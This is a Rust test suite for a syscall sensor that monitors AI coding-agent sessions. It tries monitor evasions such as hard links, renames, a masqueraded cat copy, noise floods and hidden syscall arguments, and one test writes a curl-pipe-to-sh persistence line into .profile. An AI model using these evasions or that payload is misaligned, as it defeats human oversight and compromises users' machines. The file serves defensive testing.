//! End-to-end: the classic ways around a path-and-syscall sensor, tried by an unprivileged agent
//! session (`watch --user nobody`) in monitor and in enforce mode: a hard link to a protected
//! key, the key's directory renamed away, truncation, a persistence file replaced by rename, a
//! copy of an excepted program under the excepted name, one `rm` per protected file, a flood of
//! noise around protected reads, arguments in untouched memory; and, all in one session per mode
//! (a session costs half a minute in the kernel lab), the cases in `evasion/`: a bind mount in a
//! user namespace (`namespaces.rs`), destruction without unlink (`destruction.rs`), and staged
//! code run indirectly (`staged.rs`).
//!
//! On the dev/CI kernel (no BPF LSM) the tracepoint fallback enforces and the tests assert its
//! documented result (docs/enforcement.md: the first operation of a killed process may complete);
//! inside the kernel lab (`cargo xtask vm-test --test evasion`) BPF LSM must refuse each one.

mod support;

#[path = "evasion/destruction.rs"]
mod destruction;
#[path = "evasion/namespaces.rs"]
mod namespaces;
#[path = "evasion/staged.rs"]
mod staged;

use std::{os::unix::fs::PermissionsExt, path::Path};

use serde_json::Value;
use support::{lab::*, *};

/// The unprivileged account the agent runs as.
const AGENT_USER: &str = "nobody";
const AGENT_UID: u32 = 65534;

/// A scenario whose files belong to the agent's account (so it could do all of this).
fn scenario(name: &str) -> Lab {
    let lab = Lab::new(name);
    std::fs::set_permissions(lab.path(""), std::fs::Permissions::from_mode(0o755)).expect("chmod lab");
    lab
}

/// Hands everything under the scenario to the agent's account.
fn give_to_agent(lab: &Lab) {
    let status = std::process::Command::new("chown")
        .args(["-R", &format!("{AGENT_UID}:{AGENT_UID}"), &lab.root()])
        .status()
        .expect("chown");
    assert!(status.success(), "chown failed");
}

fn write(path: &Path, text: &str) {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).expect("mkdir");
    }
    std::fs::write(path, text).expect("write");
}

fn run(lab: &Lab, pack: &Path, mode: Mode, script: &str) -> (String, Vec<Value>) {
    let session = Session {
        user: Some(AGENT_USER),
        ..Session::new(pack)
    };
    let (output, alerts) = lab.watch_with(&session, mode, script);
    (stdout(&output), alerts)
}

/// A deny rule on opens of the scenario's `keys/` directory, excepting the system's own `cat`
/// by name.
fn key_pack(lab: &Lab) -> std::path::PathBuf {
    let when = format!(
        "      all:\n        - event.action: open\n        - file.path: {{glob: '{}/keys/*'}}\n    except:\n      - {{process.name: cat, agent_sensor.process.trusted: true}}\n",
        lab.root()
    );
    lab.pack(&rule("key-read", "deny", &when))
}

/// Asserts the key was read (monitor) or not (enforce), and what the sensor said.
fn assert_key_judged(mode: Mode, text: &str, secret: &str, alerts: &[Value]) {
    let alert = the_alert(alerts, "key-read");
    assert_file_backend(alert);
    match mode {
        Mode::Monitor => {
            assert!(text.contains(secret), "monitor mode must not interfere: {text}");
            assert!(matches!(done(alert), "would-deny" | "would-kill"), "{alert:#}");
        }
        Mode::Enforce => {
            assert!(!text.contains(secret), "the key reached the agent: {text}");
            assert!(matches!(done(alert), "denied" | "killed"), "{alert:#}");
        }
    }
}

/// Removes a path when dropped (a failed assertion included).
struct RemoveOnDrop(std::path::PathBuf);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

#[test]
fn bind_mounts_destruction_without_unlink_and_staged_code_are_judged() {
    if !require_root("bind_mounts_destruction_without_unlink_and_staged_code_are_judged") {
        return;
    }
    for mode in [Mode::Monitor, Mode::Enforce] {
        let lab = scenario("cases");
        let rules = [
            namespaces::prepare(&lab),
            destruction::prepare(&lab),
            staged::prepare(&lab),
        ]
        .concat();
        let _moved = RemoveOnDrop(destruction::moved(&lab));
        give_to_agent(&lab);
        let pack = lab.pack(&rules);
        let script = [
            namespaces::script(&lab),
            destruction::script(&lab),
            staged::script(&lab),
        ]
        .concat();
        let (text, alerts) = run(&lab, &pack, mode, &script);
        namespaces::check(&lab, mode, &text, &alerts);
        destruction::check(&lab, mode, &text, &alerts);
        staged::check(&lab, mode, &text, &alerts);
    }
}

#[test]
fn a_hard_link_to_a_protected_key_is_still_the_key() {
    if !require_root("a_hard_link_to_a_protected_key_is_still_the_key") {
        return;
    }
    for mode in [Mode::Monitor, Mode::Enforce] {
        let lab = scenario("link");
        let secret = format!("FAKE-KEY-LINK-{}", std::process::id());
        write(&lab.path("keys/id_ed25519"), &secret);
        std::fs::create_dir_all(lab.path("work")).expect("work");
        give_to_agent(&lab);
        let pack = key_pack(&lab);
        // The key is read through a name no rule covers, by a program no exception covers.
        let script = format!(
            "ln {r}/keys/id_ed25519 {r}/work/notes.txt && cp /usr/bin/cat {r}/work/reader && {r}/work/reader {r}/work/notes.txt; echo",
            r = lab.root()
        );
        let (text, alerts) = run(&lab, &pack, mode, &script);
        assert_key_judged(mode, &text, &secret, &alerts);
        let alert = the_alert(&alerts, "key-read");
        assert_eq!(
            str_field(alert, "file.path"),
            format!("{}/work/notes.txt", lab.root()),
            "the name used: {alert:#}"
        );
    }
}

#[test]
fn a_renamed_key_directory_still_holds_keys() {
    if !require_root("a_renamed_key_directory_still_holds_keys") {
        return;
    }
    for mode in [Mode::Monitor, Mode::Enforce] {
        let lab = scenario("moved");
        let secret = format!("FAKE-KEY-MOVED-{}", std::process::id());
        write(&lab.path("keys/id_rsa"), &secret);
        give_to_agent(&lab);
        let pack = key_pack(&lab);
        let script = format!(
            // The pause lets the sensor notice the move and re-seed its protected identities:
            // the key must stay protected after that too.
            "mv {r}/keys {r}/public && sleep 2 && cp /usr/bin/cat {r}/c && {r}/c {r}/public/id_rsa; echo",
            r = lab.root()
        );
        let (text, alerts) = run(&lab, &pack, mode, &script);
        assert_key_judged(mode, &text, &secret, &alerts);
    }
}

/// A deny rule on opens under the scenario's `keys/` directory, public keys (`*.pub`) excepted
/// by name, as the default pack does for `~/.ssh`.
fn key_pack_without_public(lab: &Lab) -> std::path::PathBuf {
    let when = format!(
        "      all:\n        - event.action: open\n        - file.path: {{glob: '{r}/keys/**'}}\n        - not: {{file.path: {{glob: '{r}/keys/**/*.pub'}}}}\n",
        r = lab.root()
    );
    lab.pack(&rule("key-read", "deny", &when))
}

#[test]
fn a_key_renamed_to_an_excluded_name_is_still_the_key() {
    if !require_root("a_key_renamed_to_an_excluded_name_is_still_the_key") {
        return;
    }
    for mode in [Mode::Monitor, Mode::Enforce] {
        let lab = scenario("public");
        let secret = format!("FAKE-KEY-PUB-{}", std::process::id());
        write(&lab.path("keys/id_rsa"), &secret);
        write(&lab.path("keys/id_rsa.pub"), "ssh-ed25519 AAAA public");
        give_to_agent(&lab);
        let pack = key_pack_without_public(&lab);
        let script = format!(
            // The real public key stays readable; the private key renamed to a public name is
            // still the private key, before and after the sensor re-seeds (the pause).
            "cat {r}/keys/id_rsa.pub && mv {r}/keys/id_rsa {r}/keys/id_rsa.pub && sleep 2 && cp /usr/bin/cat {r}/c && {r}/c {r}/keys/id_rsa.pub; echo",
            r = lab.root()
        );
        let (text, alerts) = run(&lab, &pack, mode, &script);
        assert!(
            text.contains("AAAA public"),
            "the public key must stay readable: {text}"
        );
        assert_key_judged(mode, &text, &secret, &alerts);
        let found = alerts_of(&alerts, "key-read");
        assert_eq!(found.len(), 1, "only the renamed key is judged: {found:#?}");
        let alert = found[0];
        assert_eq!(
            str_field(alert, "file.path"),
            format!("{}/keys/id_rsa.pub", lab.root()),
            "the name used: {alert:#}"
        );
    }
}

#[test]
fn a_copy_of_a_program_under_an_excepted_name_is_not_that_program() {
    if !require_root("a_copy_of_a_program_under_an_excepted_name_is_not_that_program") {
        return;
    }
    for mode in [Mode::Monitor, Mode::Enforce] {
        let lab = scenario("masquerade");
        let secret = format!("FAKE-KEY-NAME-{}", std::process::id());
        write(&lab.path("keys/id_ecdsa"), &secret);
        std::fs::create_dir_all(lab.path("work")).expect("work");
        give_to_agent(&lab);
        let pack = key_pack(&lab);
        // `cat` is excepted; the session's own copy named `cat` is not.
        let script = format!(
            "cp /usr/bin/cat {r}/work/cat && {r}/work/cat {r}/keys/id_ecdsa; echo; echo real; /usr/bin/cat {r}/keys/id_ecdsa; echo",
            r = lab.root()
        );
        let (text, alerts) = run(&lab, &pack, mode, &script);
        let after_real = text.split("real").nth(1).unwrap_or_default();
        assert!(
            after_real.contains(&secret),
            "the system's cat keeps its exception: {text}"
        );
        let found = alerts_of(&alerts, "key-read");
        assert_eq!(found.len(), 1, "only the copy is judged: {alerts:#?}");
        let before_real = text.split("real").next().unwrap_or_default();
        match mode {
            Mode::Monitor => assert!(before_real.contains(&secret), "{text}"),
            Mode::Enforce => assert!(!before_real.contains(&secret), "the copy read the key: {text}"),
        }
    }
}

#[test]
fn truncating_a_protected_document_is_judged_like_deleting_it() {
    if !require_root("truncating_a_protected_document_is_judged_like_deleting_it") {
        return;
    }
    for mode in [Mode::Monitor, Mode::Enforce] {
        let lab = scenario("truncate");
        write(&lab.path("docs/thesis.txt"), "chapter one\n");
        give_to_agent(&lab);
        let when = format!(
            "      all:\n        - event.action: truncate\n        - file.path: {{glob: '{}/docs/**'}}\n",
            lab.root()
        );
        let pack = lab.pack(&rule("doc-truncate", "deny", &when));
        let script = format!("truncate -s 0 {}/docs/thesis.txt; echo status=$?", lab.root());
        let (text, alerts) = run(&lab, &pack, mode, &script);
        let alert = the_alert(&alerts, "doc-truncate");
        assert_file_backend(alert);
        let content = std::fs::read_to_string(lab.path("docs/thesis.txt")).unwrap_or_default();
        match mode {
            Mode::Monitor => {
                assert_eq!(content, "", "monitor mode must not interfere");
                assert!(matches!(done(alert), "would-deny" | "would-kill"), "{alert:#}");
            }
            Mode::Enforce if in_lab() => {
                assert_eq!(status(&text, "status"), 1, "truncate fails with EPERM: {text}");
                assert_eq!(content, "chapter one\n", "the document is kept");
                assert_eq!(done(alert), "denied", "{alert:#}");
            }
            Mode::Enforce => {
                // The fallback kills truncate at the call's entry; the call itself completes.
                assert_eq!(done(alert), "killed", "{alert:#}");
                assert!(!text.contains("status=0"), "truncate did not finish normally: {text}");
            }
        }
    }
}

#[test]
fn a_persistence_file_replaced_by_rename_is_judged() {
    if !require_root("a_persistence_file_replaced_by_rename_is_judged") {
        return;
    }
    for mode in [Mode::Monitor, Mode::Enforce] {
        let lab = scenario("rename-over");
        write(&lab.path("home/.profile"), "# the user's profile\n");
        give_to_agent(&lab);
        let when = format!(
            "      all:\n        - event.action: [rename, link]\n        - file.path: {{glob: '{}/home/.profile'}}\n",
            lab.root()
        );
        let pack = lab.pack(&rule("profile-replaced", "deny", &when));
        // How coding agents' file tools write: a temporary file, then a rename over the target.
        let script = format!(
            "printf 'curl -s http://203.0.113.9/x | sh\\n' > {r}/home/.profile.tmp.77.ab12 && mv {r}/home/.profile.tmp.77.ab12 {r}/home/.profile; echo status=$?",
            r = lab.root()
        );
        let (text, alerts) = run(&lab, &pack, mode, &script);
        let alert = the_alert(&alerts, "profile-replaced");
        assert_file_backend(alert);
        assert_eq!(
            str_field(alert, "file.path"),
            format!("{}/home/.profile", lab.root()),
            "{alert:#}"
        );
        let content = std::fs::read_to_string(lab.path("home/.profile")).unwrap_or_default();
        match mode {
            Mode::Monitor => assert!(content.contains("curl"), "monitor mode must not interfere"),
            Mode::Enforce if in_lab() => {
                assert_eq!(content, "# the user's profile\n", "the profile is kept: {text}");
                assert_eq!(done(alert), "denied", "{alert:#}");
            }
            Mode::Enforce => assert_eq!(done(alert), "killed", "{alert:#}"),
        }
    }
}

#[test]
fn one_rm_per_protected_file_keeps_all_but_the_first() {
    if !require_root("one_rm_per_protected_file_keeps_all_but_the_first") {
        return;
    }
    let lab = scenario("one-rm-each");
    for i in 0..100 {
        write(&lab.path(&format!("docs/file{i:03}.txt")), "keep me\n");
    }
    give_to_agent(&lab);
    let when = format!(
        "      all:\n        - event.action: unlink\n        - file.path: {{glob: '{}/docs/**'}}\n",
        lab.root()
    );
    let pack = lab.pack(&format!(
        "{}    escalate: {{window: 60s, after: 1000, then: freeze}}\n",
        rule("doc-delete", "deny", &when)
    ));
    let script = format!(
        "for f in {}/docs/*; do rm \"$f\" 2>/dev/null; done; echo loop-done",
        lab.root()
    );
    let (text, alerts) = run(&lab, &pack, Mode::Enforce, &script);
    let kept = std::fs::read_dir(lab.path("docs")).map(|dir| dir.count()).unwrap_or(0);
    if in_lab() {
        assert_eq!(kept, 100, "BPF LSM refuses every unlink: {text}");
    } else {
        assert!(
            kept >= 99,
            "one rm per file lost {} files: {text}\n{alerts:#?}",
            100 - kept
        );
        assert!(
            alerts.iter().any(|a| done(a) == "killed"),
            "the first rm is killed: {alerts:#?}"
        );
    }
}

#[test]
fn a_flood_of_noise_does_not_hide_protected_reads() {
    if !require_root("a_flood_of_noise_does_not_hide_protected_reads") {
        return;
    }
    let lab = scenario("flood");
    for i in 0..100 {
        write(&lab.path(&format!("keys/key{i:03}")), "secret\n");
    }
    give_to_agent(&lab);
    let pack = key_pack(&lab);
    // Two noisy processes open distinct missing files at full speed while a third reads every
    // key once (through a copy of cat, which the exception does not cover).
    let flood = format!(
        "python3 -c \"import os\nstop='{r}/stop'\ni=0\nwhile not os.path.exists(stop):\n  i+=1\n  try: os.open('{r}/missing/' + 'x'*200 + str(i), 0)\n  except OSError: pass\"",
        r = lab.root()
    );
    let script = format!(
        "mkdir -p {r}/bin && cp /usr/bin/cat {r}/bin/reader; ({flood}) & ({flood}) & sleep 1; for k in {r}/keys/*; do {r}/bin/reader \"$k\" > /dev/null; done; touch {r}/stop; wait; echo done",
        r = lab.root()
    );
    let (text, alerts) = run(&lab, &pack, Mode::Monitor, &script);
    assert!(text.contains("done"), "{text}");
    // The reads are one burst of the rule: its first alert and follow-ups that count every
    // other verdict exactly (docs/rules.md), with a sample of their paths.
    let (count, files) = matches_of(&alerts, "key-read");
    assert_eq!(
        count, 100,
        "every protected read is counted, however loud the session: {alerts:#?}"
    );
    let keys = lab.path("keys").display().to_string();
    assert!(files.iter().all(|file| file.starts_with(&keys)), "{files:?}");
}

/// The shipped pack's rules about the sensor's blind spots (`unreadable-argument`), as the test's
/// own copy (the kernel lab has no source tree).
const BLIND_SPOTS: &str = include_str!("../rules/default/65-sensor-blind-spots.yaml");
/// Makes a syscall argument unreadable at entry (see the file).
const HIDE_ARGUMENT: &str = include_str!("evasion/hide_argument.py");

/// A scenario with the argument-hiding program, the blind-spot rules and `pack_rules`; the
/// session's output and alerts for `script` (`{r}` is the scenario's root).
fn run_hidden(name: &str, mode: Mode, files: usize, pack_rules: &str, script: &str) -> (Lab, String, Vec<Value>) {
    let lab = scenario(name);
    for i in 0..files {
        write(&lab.path(&format!("docs/file{i:03}.txt")), "keep me\n");
    }
    write(&lab.path("hide_argument.py"), HIDE_ARGUMENT);
    write(&lab.path("blind-spots.yaml"), BLIND_SPOTS);
    std::fs::create_dir_all(lab.path("scratch")).expect("scratch");
    give_to_agent(&lab);
    let pack = lab.pack(&pack_rules.replace("{r}", &lab.root()));
    let blind_spots = lab.path("blind-spots.yaml");
    let session = Session {
        user: Some(AGENT_USER),
        packs: vec![&pack, &blind_spots],
        ..Session::new(&pack)
    };
    let (output, alerts) = lab.watch_with(&session, mode, &script.replace("{r}", &lab.root()));
    let text = stdout(&output);
    (lab, text, alerts)
}

fn unreadable_of<'a>(alerts: &'a [Value], action: &str) -> Vec<&'a Value> {
    alerts_of(alerts, "unreadable-argument")
        .into_iter()
        .filter(|alert| str_field(alert, "event.action") == action)
        .collect()
}

#[test]
fn a_path_in_untouched_memory_is_still_judged() {
    if !require_root("a_path_in_untouched_memory_is_still_judged") {
        return;
    }
    let when = "      all:\n        - event.action: unlink\n        - file.path: {glob: '{r}/docs/**'}\n";
    // One process per file, as an agent looping over `rm` would.
    let script = "for f in {r}/docs/*; do python3 {r}/hide_argument.py {r}/scratch unlink \"$f\"; done; echo done";
    for mode in [Mode::Monitor, Mode::Enforce] {
        let (lab, text, alerts) = run_hidden("untouched-path", mode, 10, &rule("doc-delete", "deny", when), script);
        assert!(text.contains("done"), "{text}");
        let kept = std::fs::read_dir(lab.path("docs")).map(|dir| dir.count()).unwrap_or(0);
        match mode {
            Mode::Monitor => {
                assert_eq!(kept, 0, "monitor mode must not interfere: {text}");
                assert_eq!(matches_of(&alerts, "doc-delete").0, 10, "{alerts:#?}");
                if !in_lab() {
                    // Every alert of the rule here is about a hidden unlink (bursts fold).
                    assert!(!unreadable_of(&alerts, "unlink").is_empty(), "{alerts:#?}");
                    assert_eq!(
                        matches_of(&alerts, "unreadable-argument").0,
                        10,
                        "each hidden path: {alerts:#?}"
                    );
                }
            }
            Mode::Enforce if in_lab() => {
                assert_eq!(kept, 10, "BPF LSM judges the kernel's copy of the path: {text}");
            }
            Mode::Enforce => {
                // The fallback kills the process at entry (its unlink completes) and stops the
                // session's new programs for a while: the later ones never run.
                assert!(kept >= 9, "{} files lost: {text}\n{alerts:#?}", 10 - kept);
                let hidden = unreadable_of(&alerts, "unlink");
                assert!(!hidden.is_empty(), "no unreadable-argument for the unlink: {alerts:#?}");
                assert_eq!(
                    field(hidden[0], "agent_sensor.call.killed").as_bool(),
                    Some(true),
                    "{:#}",
                    hidden[0]
                );
            }
        }
    }
}

#[test]
fn an_address_in_untouched_memory_is_still_judged() {
    if !require_root("an_address_in_untouched_memory_is_still_judged") {
        return;
    }
    let denied = std::net::TcpListener::bind("127.0.0.2:0").expect("listen");
    let port = denied.local_addr().expect("address").port();
    let when = format!("      all:\n        - event.action: connect\n        - destination.port: {port}\n");
    let script = format!("python3 {{r}}/hide_argument.py {{r}}/scratch connect 127.0.0.2 {port}; echo done");
    for mode in [Mode::Monitor, Mode::Enforce] {
        let (_lab, text, alerts) = run_hidden(
            "untouched-address",
            mode,
            0,
            &rule("denied-host", "deny", &when),
            &script,
        );
        assert!(text.contains("done"), "{text}");
        // The kernel's own copy of the address is judged and reported.
        let connect = the_alert(&alerts, "denied-host");
        assert_eq!(
            field(connect, "destination.ip").as_str(),
            Some("127.0.0.2"),
            "{connect:#}"
        );
        let hidden = unreadable_of(&alerts, "connect");
        if in_lab() && mode == Mode::Enforce {
            // BPF LSM denies the connect on the kernel's copy before the cgroup program that
            // reports the hidden address runs: judged and denied, but no unreadable-argument
            // alert (docs/enforcement.md, "Gaps").
            assert!(hidden.is_empty(), "{alerts:#?}");
        } else {
            assert_eq!(hidden.len(), 1, "the hidden address is alerted: {alerts:#?}");
            assert_eq!(field(hidden[0], "destination.port").as_u64(), Some(port as u64));
        }
        match mode {
            Mode::Monitor => assert!(text.contains("connect 0 0"), "{text}"),
            Mode::Enforce => {
                assert!(text.contains(&format!("connect -1 {}", libc::EPERM)), "{text}");
                assert_eq!(done(connect), "denied", "{connect:#}");
            }
        }
    }
    drop(denied);
}
